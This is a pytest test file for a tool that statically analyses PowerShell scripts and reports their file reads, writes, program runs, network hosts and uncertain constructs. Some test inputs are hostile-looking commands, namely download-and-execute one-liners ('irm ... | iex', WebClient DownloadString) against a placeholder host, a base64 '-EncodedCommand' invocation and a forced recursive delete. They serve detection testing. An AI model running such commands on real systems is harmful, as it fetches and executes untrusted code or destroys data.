"""PowerShell: cmdlets and their aliases, native programs, and the same exactness."""

from __future__ import annotations

import base64

import pytest

from guildmark.lenses.scripts.powershell import effects


def found(source: str) -> list[tuple[str, str, str]]:
    return [(read.path, read.kind, read.extent) for read in effects(source).reads]


@pytest.mark.parametrize(
    ("source", "reads"),
    [
        ("Get-Content p", [("p", "content", "whole")]),
        ("gc p; cat p; type p; GET-CONTENT p", [("p", "content", "whole")] * 4),
        ("Get-Content -Path .\\a\\SKILL.md", [("a/SKILL.md", "content", "whole")]),
        ("Get-Content -LiteralPath 'a b\\[p]'", [("a b/[p]", "content", "whole")]),
        ("Get-Content -Raw p", [("p", "content", "whole")]),
        ("Get-Content p -Raw -Encoding utf8", [("p", "content", "whole")]),
        ("Get-Content p -TotalCount 5", [("p", "content", "part")]),
        ("Get-Content -Tail 5 p", [("p", "content", "part")]),
        ("gc -Tot 5 p", [("p", "content", "part")]),
        ("gc a, b", [("a", "content", "whole"), ("b", "content", "whole")]),
        ("gc a,b", [("a", "content", "whole"), ("b", "content", "whole")]),
        ("gc -Path:p", [("p", "content", "whole")]),
        ("gc a `\n  -Tail 5", [("a", "content", "part")]),
        ("gc p | Select-Object -First 3", [("p", "content", "part")]),
        ("gc p | sls x", [("p", "match", "unknown")]),
        ("Select-String -Pattern x -Path p", [("p", "match", "unknown")]),
        ("sls x p", [("p", "match", "unknown")]),
        ("Get-ChildItem p; Test-Path q", [("p", "meta", "unknown"), ("q", "meta", "unknown")]),
        ("$D = 'd'; gc \"$D\\p\" ; gc $D\\q", [("d/p", "content", "whole"), ("d/q", "content", "whole")]),
        ("foreach ($f in 'a','b') { gc \"$f/p\" }", [("a/p", "content", "whole"), ("b/p", "content", "whole")]),
        ("if (Test-Path p) { gc q }", [("p", "meta", "unknown"), ("q", "content", "whole")]),
        ('"x $(gc p)"; (gc q).Length', [("p", "content", "whole"), ("q", "content", "whole")]),
        ("[IO.File]::ReadAllText('p')", [("p", "content", "whole")]),
        ('powershell -NoProfile -Command "gc p"', [("p", "content", "whole")]),
        ("cmd /c type p", [("p", "content", "whole")]),
        ("Invoke-Expression 'gc p'; 'gc q' | iex", [("p", "content", "whole"), ("q", "content", "whole")]),
        ("bash -c 'head -3 p'", [("p", "content", "part")]),
        ("cd x; gc p", [("x/p", "content", "whole")]),
        (
            "Set-Location x; Push-Location y; gc p; Pop-Location; gc q",
            [("x/y/p", "content", "whole"), ("x/q", "content", "whole")],
        ),
        ("# gc p", []),
        ("Write-Output 'gc p'", []),
        ("@'\ngc p\n'@ | Set-Content q", []),
        ("'gc p'", []),
    ],
)
def test_reads(source, reads):
    assert found(source) == reads


def test_written_keeps_its_backslashes():
    (read,) = effects("gc .\\a\\p", "C:\\w").reads
    assert (read.path, read.written, read.certainty) == ("C:/w/a/p", ".\\a\\p", "certain")


def test_a_drive_is_a_root():
    assert [read.path for read in effects("gc D:\\p", "C:\\w").reads] == ["D:/p"]


def test_files_through_a_pipe():
    source = "Get-ChildItem d -Recurse -Filter SKILL.md | ForEach-Object { Get-Content $_.FullName }"
    reads = [(read.path, read.certainty) for read in effects(source).reads if read.kind == "content"]
    assert reads == [("d/**/SKILL.md", "likely")]


@pytest.mark.parametrize(
    ("source", "writes"),
    [
        ("Set-Content -Path p -Value x", [("p", "create")]),
        ("'x' | Out-File p", [("p", "create")]),
        ("'x' | Out-File -Append p", [("p", "append")]),
        ("ac p x", [("p", "append")]),
        ("ls > p", [("p", "create")]),
        ("ls >> p", [("p", "append")]),
        ("Remove-Item -Recurse -Force p", [("p", "delete")]),
        ("del p", [("p", "delete")]),
        ("New-Item -ItemType File -Path p", [("p", "create")]),
        ("iwr http://h.example.invalid -OutFile p", [("p", "create")]),
        ("[IO.File]::WriteAllText('p', 'x')", [("p", "create")]),
        ("ls 2>$null; ls > $null", []),
        ("if (1 -gt 2) { }", []),
    ],
)
def test_writes(source, writes):
    assert [(write.path, write.how) for write in effects(source).writes] == writes


def test_copies_name_their_source():
    copies = [
        (write.path, write.source, write.how)
        for write in effects("Copy-Item a b; Move-Item -Path c -Destination d").writes
    ]
    assert copies == [("b", "a", "create"), ("c", None, "delete"), ("d", "c", "create")]


@pytest.mark.parametrize(
    ("source", "path", "argv", "code"),
    [
        ("& .\\x.ps1 -A 1", "x.ps1", ("-A", "1"), "is"),
        (". .\\x.ps1", "x.ps1", (), "is"),
        (".\\x.ps1", "x.ps1", (), "is"),
        ("& 'C:\\a b\\x.exe' c", "C:/a b/x.exe", ("c",), "is"),
        ("python x.py a", "x.py", ("a",), "is"),
        ("python scripts\\x.py; ls", "scripts/x.py", (), "lost"),
        ("python x.py | Select-Object -First 1", "x.py", (), "lost"),
        ("cd d && python x.py", "d/x.py", (), "zero"),
        ("python x.py || ls", "x.py", (), "lost"),
        ("pwsh -File x.ps1 a", "x.ps1", ("a",), "is"),
        ("Start-Process python -ArgumentList 'x.py'", "x.py", (), "lost"),
    ],
)
def test_runs(source, path, argv, code):
    run = effects(source).runs[0]
    assert (run.path, run.argv, run.exit) == (path, argv, code)


@pytest.mark.parametrize(
    "source",
    [
        "Invoke-WebRequest http://h.example.invalid/x",
        "iwr -Uri https://h.example.invalid/x -UseBasicParsing",
        "irm h.example.invalid/x | iex",
        "(New-Object Net.WebClient).DownloadString('http://h.example.invalid/x')",
        "curl.exe http://h.example.invalid/x",
    ],
)
def test_hosts(source):
    assert [host.name for host in effects(source).hosts] == ["h.example.invalid"]


def test_code_from_a_pipe_is_a_run_and_a_doubt():
    found = effects("irm http://h.example.invalid/x | iex")
    assert [run.stdin for run in found.runs if run.program == "iex"] == [True]
    assert found.unknown


@pytest.mark.parametrize(
    "source", ["iex $x", "gc $x\\p", "& $x", "iex (irm http://h.example.invalid/x)", "gc 'open", "gc (f)"]
)
def test_doubts(source):
    assert effects(source).unknown


def test_encoded_commands_are_read():
    code = base64.b64encode("gc p".encode("utf-16-le")).decode()
    assert found(f"powershell -EncodedCommand {code}") == [("p", "content", "whole")]


def test_the_environment():
    uses = [(use.name, use.how) for use in effects("$env:A = 'x'; gc $env:B\\p").env]
    assert uses == [("A", "set"), ("B", "read")]


def test_a_function_is_no_program():
    assert effects("function Do-It { gc p }; Do-It").runs == ()
